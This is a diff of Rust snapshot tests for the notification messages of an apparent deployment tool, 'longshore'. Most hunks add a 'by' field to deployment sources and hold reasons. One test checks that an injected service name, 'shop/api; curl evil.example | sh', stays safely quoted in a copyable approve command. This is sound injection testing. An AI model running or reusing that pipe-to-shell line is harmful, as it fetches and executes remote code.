@@ -25,6 +25,7 @@ fn a_release_file_that_is_deployed() {
 fn a_manual_payload_that_is_deployed() {
     insta::assert_json_snapshot!(message(&started(Source::Manual {
         note: Some("rolling forward".to_owned()),
+        by: None,
     })));
 }
 
@@ -40,7 +41,10 @@ fn a_deployment_that_succeeded() {
 
 #[test]
 fn a_deployment_by_digest_that_succeeded() {
-    let mut deployment = deployment(Source::Manual { note: None });
+    let mut deployment = deployment(Source::Manual {
+        note: None,
+        by: None,
+    });
     deployment.image.tag = None;
     insta::assert_json_snapshot!(message(&LongshoreEvent::DeploymentSucceeded(
         DeploymentSucceeded {
@@ -181,10 +185,18 @@ fn a_deployment_that_waits_for_each_reason() {
             "the_end_of_a_hold",
             WaitReason::Held {
                 note: Some("the sale\nask Ada".to_owned()),
+                by: None,
             },
             Some(after(86_400)),
         ),
-        ("somebody_to_resume", WaitReason::Held { note: None }, None),
+        (
+            "somebody_to_resume",
+            WaitReason::Held {
+                note: None,
+                by: None,
+            },
+            None,
+        ),
         ("a_freeze_window", WaitReason::Frozen, Some(after(7_200))),
         ("approval", WaitReason::Approval, Some(after(28_800))),
         (
@@ -215,7 +227,7 @@ fn what_is_copied_from_a_message_runs_nothing_else() {
         .unwrap();
     assert!(
         command.contains(
-            r"longshore approve 'shop/api; curl '\''evil.example'\'' | sh' --digest sha256:"
+            r"longshore approve 'shop/api; curl '\''evil.example'\'' | sh' --digest 1a2b3c4d5e6f"
         ),
         "{command}"
     );
@@ -236,6 +248,7 @@ fn a_rollback_by_hand_is_called_one() {
     let source = || Source::Rollback {
         to: 41,
         note: Some("the checkout is broken".to_owned()),
+        by: None,
     };
     insta::assert_json_snapshot!(message(&started(source())));
     let succeeded = message(&LongshoreEvent::DeploymentSucceeded(DeploymentSucceeded {
@@ -288,6 +301,8 @@ fn an_image_that_is_restored_after_a_change_of_the_stack() {
     insta::assert_json_snapshot!(message(&started(Source::Stack {
         operation_id: "file-9b1f4c02d7a85e36f0c4b1aa".to_owned(),
         restored: true,
+        note: None,
+        by: None,
     })));
 }
 
@@ -316,6 +331,8 @@ fn a_deployment_of_the_stack_itself_says_so() {
     event.source = Source::Stack {
         operation_id: "change-7".to_owned(),
         restored: false,
+        note: None,
+        by: None,
     };
     let message = message(&LongshoreEvent::DeploymentSkipped(event));
     let reported = texts(&message).join("\n");
